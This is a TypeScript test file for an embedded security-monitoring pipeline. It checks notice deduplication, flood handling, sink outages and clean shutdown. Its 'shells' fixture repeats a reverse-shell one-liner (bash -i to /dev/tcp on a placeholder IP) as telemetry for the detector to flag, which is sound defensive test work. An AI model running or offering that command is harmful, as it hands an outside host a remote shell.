import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { type Pipeline, startPipeline } from "../../lib/cli/pipeline.js";
import { findingsIn, type Notice } from "../../lib/domain/notice.js";
import { noKnowledge } from "../../lib/flows/judge.js";
import type { Sink } from "../../lib/ports/sink.js";
import { random } from "../../lib/sample/random.js";
import { workOf } from "./engineers.js";
import { createRoad, createTestStream, deliver, scattered, config as smallCompany } from "./road.js";

const open = new Set<Pipeline>();
afterEach(async () => {
  for (const pipeline of open) await pipeline.stop();
  open.clear();
});

async function pipelineTo(sink: Sink): Promise<Pipeline> {
  const pipeline = await startPipeline(noKnowledge, config, sink);
  open.add(pipeline);
  return pipeline;
}

const stop = async (pipeline: Pipeline): Promise<void> => {
  open.delete(pipeline);
  await pipeline.stop();
};

// What the pipeline logs of failures that are made here on purpose.
beforeEach(() => void vi.spyOn(console, "error").mockImplementation(() => {}));
afterEach(() => vi.restoreAllMocks());

const idsOf = (notices: readonly Notice[]): readonly string[] =>
  notices.flatMap((notice) => findingsIn(notice).map(({ id }) => id)).sort();

const listeners = (): number => process.getActiveResourcesInfo().filter((name) => name === "TCPServerWrap").length;

/** Node lets a closed server go a moment later; nothing takes this long. */
const patience = { timeout: 20_000, interval: 5 };

/** The shards of the embedded streams run apart as they like: with everybody young, the same is found in any order. */
const config = { ...smallCompany, policy: { ...smallCompany.policy, youngCommands: 100_000 } };
const days = workOf(9, { perDay: 5 });
const shells = Array.from({ length: 320 }, (_, i) => ({
  ...{ id: `shell-${i}`, time: new Date(Date.UTC(2026, 2, 2, 9, 0, i)).toISOString(), user: "ada" },
  ...{ host: "ada-laptop.example", session: `s${i}`, command: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" },
}));

async function inMemory(records: readonly object[]): Promise<readonly string[]> {
  const road = createRoad({ settings: config });
  const telemetry = createTestStream("telemetry");
  await telemetry.put(scattered(records));
  await deliver(telemetry, road.interpret, random(9));
  await deliver(road.observations, road.assess, random(9));
  return road.kept.map(({ id }) => id).sort();
}

describe("the embedded pipeline", () => {
  it("tells once each what the handlers find in memory, counts its traffic, and ends cleanly", async () => {
    const before = listeners();
    const arrived: Notice[] = [];
    const pipeline = await pipelineTo(async (incident) => void arrived.push(incident));
    await pipeline.put(scattered(days));
    await pipeline.drained();
    expect(idsOf(arrived)).toEqual(await inMemory(days));
    expect(arrived.length).toBeGreaterThanOrEqual(4);
    const { records, batches, writeUnits, readUnits, telemetry, observations } = pipeline.traffic();
    expect(records).toBeGreaterThan(days.length);
    expect(batches).toBeGreaterThan(1);
    expect(writeUnits).toBeGreaterThan(0);
    expect(readUnits).toBeGreaterThan(0);
    expect(telemetry.records).toBe(days.length);
    expect(telemetry.records + observations.records).toBe(records);
    await stop(pipeline);
    await vi.waitFor(() => expect(listeners()).toBe(before), patience);
  });

  it("tells a second delivery nothing new, and goes on after it was drained", async () => {
    const arrived: Notice[] = [];
    const pipeline = await pipelineTo(async (incident) => void arrived.push(incident));
    await pipeline.put(scattered(days));
    await pipeline.drained();
    const once = idsOf(arrived);
    await pipeline.put(scattered(days));
    await pipeline.drained();
    expect(idsOf(arrived)).toEqual(once);
  });

  it("tells a flood to its end before it is drained, though one sweep tells a hundred (found by this test)", async () => {
    const arrived: Notice[] = [];
    const pipeline = await pipelineTo(async (incident) => void arrived.push(incident));
    const lines = shells.map((record) => JSON.stringify(record)).join("\n");
    await pipeline.put(scattered([new TextEncoder().encode(lines)]));
    await pipeline.drained();
    expect(idsOf(arrived)).toEqual(await inMemory(shells));
    expect(arrived).toHaveLength(shells.length);
  });

  it("gets through an outage of the sink", async () => {
    const arrived: Notice[] = [];
    let asked = 0;
    const pipeline = await pipelineTo(async (incident) => {
      asked += 1;
      if (asked <= 3) throw new Error("not now");
      arrived.push(incident);
    });
    await pipeline.put(scattered(days));
    const drained = (): Promise<boolean> =>
      pipeline.drained().then(
        () => true,
        () => false,
      );
    while (!(await drained())); // each time fails at least one of the three
    expect(idsOf(arrived)).toEqual(await inMemory(days));
  });

  it("says so when the sink refuses for good, instead of waiting for ever (found by this test)", async () => {
    const pipeline = await pipelineTo(async () => {
      throw new Error("no such webhook");
    });
    await pipeline.put(scattered(days));
    await expect(pipeline.drained()).rejects.toThrow("did not arrive");
  });

  it("can be stopped at once, and with work on its way", async () => {
    const before = listeners();
    const idle = await pipelineTo(async () => {});
    await stop(idle);
    const busy = await pipelineTo(async () => {});
    await busy.put(scattered(days));
    await stop(busy);
    await vi.waitFor(() => expect(listeners()).toBe(before), patience);
  });
});
